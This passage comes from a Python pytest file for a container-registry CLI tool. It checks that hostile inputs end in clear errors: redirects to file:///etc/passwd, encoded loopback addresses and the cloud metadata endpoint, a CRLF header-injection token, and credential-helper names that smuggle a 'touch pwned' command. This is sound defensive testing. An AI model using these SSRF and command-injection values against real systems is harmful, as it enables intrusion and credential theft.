        Reply(429, {"Retry-After": "31536000"}),
    ),
    ask(
        "waits that are none",
        "too many requests",
        Reply(429, {"Retry-After": "Mon, 99 Foo 99999 99:99:99"}),
        args=("verify", "--timeout", "4"),
    ),
    ask("leads to itself", "redirects more than 5 times", lead("/v2/a/b/manifests/1")),
    ask("leads nowhere", "redirects more than 5 times", Reply(307)),
    ask("leads to a file", "none of the web's", lead("file:///etc/passwd")),
    ask("leads to another protocol", "none of the web's", lead("gopher://OTHER/x")),
    ask("leads to no address", _NONE, lead("http://[::1/x")),
    ask_far("leads to this machine", _INSIDE, lead("http://OTHER/v2/a/b/manifests/1")),
    ask_far(
        "leads to this machine, by its number", _INSIDE, lead("http://2130706433/x")
    ),
    ask_far("leads to this machine, in another way", _INSIDE, lead("http://0x7f.1/x")),
    ask_far(
        "leads to this machine, by IPv6", _INSIDE, lead("http://[::ffff:127.0.0.1]/x")
    ),
    ask_far(
        "leads to this machine, with a user",
        _INSIDE,
        lead("http://far.example.org@127.0.0.1/x"),
    ),
    ask_far(
        "leads to a cloud's secrets", _INSIDE, lead("http://169.254.169.254/latest")
    ),
    ask_far(
        "a token server on this machine",
        _INSIDE,
        challenge('Bearer realm="http://OTHER/token"'),
    ),
    ask(
        "a token server that is a file",
        "none of the web's",
        challenge('Bearer realm="file:///etc/passwd"'),
    ),
    ask(
        "a token server elsewhere that wants a password",
        "private, or missing",
        challenge('Bearer realm="http://OTHER/token",service="x"'),
        1,
        files=login(),
        asks_other=True,
    ),
    ask(
        "a token of two lines",
        "private",
        challenge(
            'Bearer realm="/token"', Reply(200, {}, b'{"token": "a\\r\\nX-Evil: y"}')
        ),
        1,
    ),
    ask(
        "a token of brackets",
        _NONE,
        challenge('Bearer realm="/token"', Reply(200, {}, b"[" * _MIB)),
    ),
    ask(
        "a challenge of 60 KB",
        "private, or missing",
        challenge("Bearer " + 'realm="' * 8_000),
        1,
    ),
    ask(
        "leads elsewhere, with a password",
        "every image exists",
        lambda asked: (
            Reply(307, {"Location": "http://OTHER/x"})
            if "Authorization" in asked.headers
            else Reply(401, {"WWW-Authenticate": "Basic x=y"})
        ),
        0,
        files=login(),
        asks_other=True,
    ),
    ask_far("wants a password over plain HTTP", "private", _WANTS, 1),
]

_PWNED = "touch pwned; echo {}"

CREDENTIALS = [
    ask(
        "a configuration of half a line",
        "private",
        _WANTS,
        1,
        files={"../docker/config.json": '{"auths": '},
    ),
    ask(
        "a configuration that is a list",
        "private",
        _WANTS,
        1,
        files={"../docker/config.json": "[1, 2]"},
    ),
    ask(
        "a configuration of brackets",
        "private",
        _WANTS,
        1,
        files={"../docker/config.json": "[" * _MIB},
    ),
    ask(
        "logins that are none",
        "private",
        _WANTS,
        1,
        files={"../docker/config.json": '{"auths": {"HOST": {"auth": "%%%"}, "x": 1}}'},
    ),
    ask("a password of another port", "private", _WANTS, 1, files=login("127.0.0.1:1")),
    ask(
        "a password of a longer name",
        "private",
        _WANTS,
        1,
        files=login("HOST.evil.example"),
    ),
    ask(
        "a helper with a path in its name",
        "credential helper '../../bin/x' is no name, and was not called",
        _WANTS,
        1,
        files={
            **helper(_PWNED),
            "../docker/config.json": '{"credsStore": "../../bin/x"}',
        },
    ),
    ask(
        "a helper that is an option",
        "credential helper '-x' is no name",
        _WANTS,
        1,
        files=helper(_PWNED, "-x"),
    ),
    ask(
        "a helper with words behind it",
        "credential helper 'x get; touch pwned' is no name",
        _WANTS,
        1,
        files={"../docker/config.json": '{"credsStore": "x get; touch pwned"}'},
    ),
    ask(
        "a helper that answers with escapes",
        "docker-credential-x gave no credentials",
        _WANTS,
        1,
        files=helper("printf '\\033[2J'"),
    ),
    ask(
        "a helper that fails with escapes",
        "docker-credential-x failed",
        _WANTS,
        1,
        files=helper("printf '\\033[2J' >&2; exit 1"),
    ),
]

TABLE = [
    *NAMES,
    *DOCKERFILES,
    *BYTES,
    *YAML,
    *TREE,
    *PROJECT,
    *OUTPUT,
    *REGISTRIES,
    *CREDENTIALS,
]


@pytest.fixture
def site(tmp_path, monkeypatch):
    """Return an empty folder to work in, of a repository; all else is out of reach."""
    folder = tmp_path / "my-site"
    (folder / ".git").mkdir(parents=True)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "docker"))
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:/usr/bin:/bin")
    monkeypatch.setenv("SECRET", "7.7.7")
    monkeypatch.setattr("invenio_cli_registry.availability.client._BACKOFF", ())
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)
    return folder


def list_all(folder) -> dict[str, Tuple[int, int]]:
    """Return every name in a tree, with what tells that it is as it was."""
    found = {}
    for path, folders, files in os.walk(folder):
        for name in (*folders, *files):
            one = os.path.join(path, name)
            with contextlib.suppress(OSError):
                status = os.lstat(one)
                size = 0 if name in folders else status.st_size
                found[one] = (status.st_mode, size)
    return found


def put_all(site, files: Mapping[str, Content], hosts: Mapping[str, str]) -> None:
    for name, content in files.items():
        if isinstance(content, str):
            for word, host in hosts.items():
                content = content.replace(word, host)
        put(site, {name: content})


def check_done(bad: Bad, done) -> None:
    text = done.out + done.err
    said = " ".join(text.split())
    assert (done.code, bad.said in said) == (bad.code, True), text[-3000:]
    assert bad.unsaid not in text
    assert hostile_characters(text) == set()


@pytest.mark.parametrize("bad", TABLE, ids=lambda bad: bad.name)
def test_bad_input_ends_with_a_clear_message(bad, site, monkeypatch):
    with contextlib.ExitStack() as servers:
        hosts: dict[str, str] = {}

        def replace(reply: Reply) -> Reply:
            headers = {}
            for name, value in reply.headers.items():
                headers[name] = value.replace("OTHER", hosts["OTHER"])
            return reply._replace(headers=headers)

        other = None
        if bad.answer is not None:
            other = servers.enter_context(serve(EXISTS))
            # Another name of this machine: to a browser, and to us, another host.
            hosts["OTHER"] = other.host.replace("127.0.0.1", "localhost")
            answer = bad.answer
            if callable(answer):
                registry = servers.enter_context(
                    serve(lambda asked: replace(answer(asked)))
                )
            else:
                registry = servers.enter_context(serve(answer))
            hosts["HOST"] = registry.host
            if bad.args == _BY_PROXY:
                monkeypatch.setenv("http_proxy", registry.url)
        put_all(site, bad.files, hosts)
        before = list_all(site.parent)
        done = run_bounded(*bad.args, seconds=bad.seconds)
        if other:
            assert bool(other.asked) is bad.asks_other
            assert not any("Authorization" in asked.headers for asked in other.asked)
            assert bad.files.get("../docker/config.json") or not any(
                "Basic" in asked.headers.get("Authorization", "")
                for asked in registry.asked
            )
    check_done(bad, done)
    assert list_all(site.parent) == before


@pytest.mark.parametrize("form", sorted(FORMATS))
@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_nothing_reaches_out_of_a_report(site, form, text):
    """A text stands wherever one can; a log takes no line of the report for a command."""
    find_hostile(site.parent, text)
    done = run(*_DAY, "--format", form, "--all", "--verbose", ".", f"nope{text}")
    assert done.exit_code == 2
    assert hostile_characters(done.stdout) == set()
    lines = done.stdout.splitlines()
    assert len(lines) > 5
    if form == "github":
        titles = {parse_github(line).properties["title"] for line in lines}
        assert all(title.startswith("invenio-cli-registry: ") for title in titles)
        return
    assert not [line for line in lines if line.lstrip().startswith(("::", "##["))]
    if form != "text":
        json.loads(done.stdout)


def test_a_project_is_never_imported(site):
    """What lies in a project under a module's name is nobody's module."""
    names = "click yaml tomllib tomlkit packaging requests docker json invenio_cli site"
    modules = {
        f"{name}.py": _RUNS for name in (*names.split(), "sitecustomize", "setup")
    }
    put(site, {**_NINE, **modules, "invenio_cli_registry/__init__.py": _RUNS})
    script = site.parent / "bin" / "invenio-cli-registry"
    put(
        script.parent,
        {script.name: "from invenio_cli_registry.cli import main\nmain()\n"},
    )
    before = list_all(site)
    for command in ("check", "migrate --dry-run --set-python"):
        done = subprocess.run(
            [sys.executable, str(script), *command.split()],
            env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"},
            capture_output=True,
            text=True,
        )
        assert (done.returncode, HUB in done.stdout) == (1, True), done.stderr
    assert list_all(site) == before


def test_the_table_is_long_and_no_name_is_there_twice():
    names = [bad.name for bad in TABLE]
    assert len(names) >= 60
    assert len(set(names)) == len(names)
